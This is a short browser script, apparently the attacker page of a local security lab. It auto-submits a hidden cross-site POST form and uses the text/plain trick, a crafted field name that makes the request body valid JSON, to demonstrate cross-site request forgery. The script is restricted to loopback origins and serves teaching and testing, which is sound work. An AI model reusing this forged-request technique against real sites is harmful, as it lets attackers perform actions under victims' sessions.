// Plain script (no build step): public/ files are served as they are, on either loopback name.
;(() => {
  const params = new URLSearchParams(location.search)
  const action = params.get('action')
  const enctype = params.get('enctype') === 'text/plain' ? 'text/plain' : 'application/x-www-form-urlencoded'
  const parent = params.get('parent')
  // Only ever posts back to the lab origin that asked, and only when it is the other loopback name.
  if (!action || !parent || !/^http:\/\/(127\.0\.0\.1|localhost):\d+$/.test(parent) || new URL(action).origin !== parent) return

  const form = document.createElement('form')
  form.method = 'POST'
  form.action = action
  form.enctype = enctype
  // The answer goes into the hidden frame, so this page (and the lab around it) stays put.
  form.target = 'sink'
  const field = document.createElement('input')
  field.type = 'hidden'
  if (enctype === 'text/plain') {
    // The classic text/plain trick: the body becomes {"text":"lab: cross-site form","pad":"="}, valid JSON.
    field.name = '{"text":"lab: cross-site form","pad":"'
    field.value = '"}'
  } else {
    field.name = 'text'
    field.value = 'lab: cross-site form'
  }
  form.append(field)
  document.body.append(form)

  const sink = document.querySelector('iframe[name="sink"]')
  // The frame's load after submission means the browser got an answer (whatever it was).
  sink?.addEventListener('load', () => window.parent.postMessage({ source: 'authlens-attacker', event: 'answered', enctype }, parent), { once: true })
  window.parent.postMessage({ source: 'authlens-attacker', event: 'submitted', enctype }, parent)
  form.submit()
})()
